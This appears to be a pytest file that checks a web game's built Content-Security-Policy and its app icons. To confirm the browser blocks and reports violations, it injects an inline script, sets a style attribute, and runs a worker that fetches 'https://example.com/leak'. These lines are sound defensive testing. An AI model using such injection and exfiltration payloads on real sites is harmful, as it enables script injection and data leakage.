"""What the build writes, checked where it matters: the page's Content-Security-Policy (in the
built index.html, enforced by Chromium, and heard by the suite's violation hook) and the PNG
icons as the browser decodes them."""

import re
from html.parser import HTMLParser

import pytest


class _Head(HTMLParser):
    """The tags of the page's head in order, as (tag, attributes)."""

    def __init__(self):
        super().__init__()
        self.tags = []
        self.inline_scripts = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script and data.strip():
            self.inline_scripts.append(data)


def test_built_index_carries_the_policy_before_any_resource(dist):
    parser = _Head()
    parser.feed((dist / "index.html").read_text(encoding="utf-8"))
    tags = [tag for tag in parser.tags if tag[0] not in ("html", "head")]
    assert tags[0] == ("meta", {"charset": "utf-8"})
    name, attrs = tags[1]
    assert name == "meta" and attrs["http-equiv"] == "Content-Security-Policy"
    directives = {}
    for part in attrs["content"].split(";"):
        directive, *sources = part.split()
        assert directive not in directives
        directives[directive] = sources
    assert directives["default-src"] == ["'none'"]
    assert directives["object-src"] == ["'none'"]
    assert directives["base-uri"] == ["'self'"]
    assert directives["script-src"] == ["'self'", "'wasm-unsafe-eval'"]
    assert directives["style-src"] == ["'self'"]
    assert set(directives["connect-src"]) == {"'self'", "wss:", "ws://127.0.0.1:*", "ws://localhost:*"}
    # Nothing anywhere allows inline code, eval or other origins' scripts and styles.
    everything = " ".join(source for sources in directives.values() for source in sources)
    assert not re.search(r"'unsafe-inline'|'unsafe-eval'|'unsafe-hashes'|\*(?!\s|$)|https?:|data:", everything)
    assert "frame-ancestors" not in directives  # ignored in a meta tag: it needs a header
    # And the page needs none of it: no inline script, no style attribute or element.
    assert parser.inline_scripts == []
    assert all(tag != "style" and "style" not in attrs for tag, attrs in parser.tags)
    assert all(attrs.get("src") for tag, attrs in parser.tags if tag == "script")


def test_the_policy_is_enforced_and_every_violation_is_heard(page, site, csp_violations):
    """The hook that guards the whole suite hears what the policy blocks, in the page and in
    a worker (where Python runs): an inline script, a style attribute, a connection to
    another site."""
    page.goto(site.url)
    page.locator("[data-open=perudo]").wait_for()

    def provoke(script):
        with page.expect_console_message(lambda m: "Content Security Policy" in m.text or "CSP violation" in m.text):
            page.evaluate(script)

    provoke(
        "() => { const s = document.createElement('script'); s.textContent = 'window.injected = 1';"
        " document.body.append(s); }"
    )
    assert page.evaluate("window.injected") is None
    provoke("() => document.querySelector('.tagline').setAttribute('style', 'color: red')")
    assert page.evaluate("getComputedStyle(document.querySelector('.tagline')).color") != "rgb(255, 0, 0)"
    provoke(
        "() => { new Worker(URL.createObjectURL(new Blob("
        "[\"fetch('https://example.com/leak').catch(() => {})\"], {type: 'text/javascript'}))); }"
    )
    heard = "\n".join(csp_violations)
    assert "script-src" in heard and "style-src" in heard
    assert re.search(r"https://example\.com/leak.*connect-src|connect-src.*https://example\.com/leak", heard, re.S)
    csp_violations.clear()  # provoked on purpose: this test passes


@pytest.mark.parametrize(
    "name, corner",
    [
        ("icon-192.png", (0, 0, 0, 0)),  # rounded corners: transparent
        ("icon-512.png", (0, 0, 0, 0)),
        ("icon-maskable-512.png", (31, 77, 58, 255)),  # full bleed: felt to the edge
    ],
)
def test_icons_show_the_die_on_felt(page, site, name, corner):
    page.goto(site.url)
    pixels = page.evaluate(
        """async (src) => {
          const img = new Image();
          img.src = src;
          await img.decode();
          const canvas = document.createElement("canvas");
          canvas.width = img.naturalWidth;
          canvas.height = img.naturalHeight;
          const ctx = canvas.getContext("2d");
          ctx.drawImage(img, 0, 0);
          const at = (x, y) => Array.from(ctx.getImageData(Math.floor(x), Math.floor(y), 1, 1).data);
          const w = img.naturalWidth;
          return {width: w, height: img.naturalHeight, corner: at(0, 0), pip: at(w / 2, w / 2),
                  die: at(w / 2, w * 0.37), felt: at(w / 2, w * 0.1)};
        }""",
        f"icons/{name}",
    )
    size = int(re.search(r"(\d+)\.png$", name).group(1))
    assert (pixels["width"], pixels["height"]) == (size, size)

    def near(found, wanted):
        return all(abs(a - b) <= 2 for a, b in zip(found, wanted))

    assert near(pixels["corner"], corner), pixels
    assert near(pixels["pip"], (43, 42, 40, 255)), pixels  # the centre pip, ink
    assert near(pixels["die"], (246, 241, 231, 255)), pixels  # ivory die face
    assert near(pixels["felt"], (31, 77, 58, 255)), pixels  # green felt around it
